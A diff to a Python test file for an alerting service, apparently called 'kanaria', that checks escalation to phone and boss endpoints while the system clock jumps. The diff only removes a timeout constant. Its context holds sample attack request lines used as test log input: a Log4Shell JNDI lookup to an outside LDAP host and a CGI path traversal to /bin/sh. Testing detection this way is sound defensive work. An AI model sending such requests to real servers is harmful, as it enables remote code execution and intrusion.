@@ -35,9 +35,6 @@ escalate_minutes = 0.1
 YEARS, HOUR = 315_360_000, 3_600
 AHEAD = (YEARS, 0, -YEARS, HOUR)
 """How many seconds the clock is ahead, one after the other."""
-SOON = 20.0
-"""Seconds: three of waiting whether somebody acknowledges, and what a busy machine needs."""
-
 
 TRIED = (
     "GET /?x=${jndi:ldap://203.0.113.9/a} HTTP/1.1", "POST /cgi-bin/.%2e/.%2e/bin/sh HTTP/1.1",
@@ -65,10 +62,10 @@ def test_everybody_is_told_in_time_while_the_clock_jumps(tmp_path: Path) -> None
             for number, ahead in enumerate(AHEAD, 1):
                 with log.open("a") as server:
                     server.write(line(number - 1))
-                service.wait_for(lambda: len(told("/phone")) == number, SOON)  # noqa: B023
+                service.wait_for(lambda: len(told("/phone")) == number)  # noqa: B023
                 clock.set(ahead)  # while it waits whether anybody acknowledges
                 service.wait_for(lambda: service.log.count("the clock was set") == number)  # noqa: B023
-                service.wait_for(lambda: len(told("/boss")) == number, SOON)  # noqa: B023
+                service.wait_for(lambda: len(told("/boss")) == number)  # noqa: B023
             time.sleep(2.0)  # the senders look every second
             status = json.loads(run(tmp_path, "status", "--config", "kanaria.toml", "--format", "json").stdout)
             assert service.end() == 0
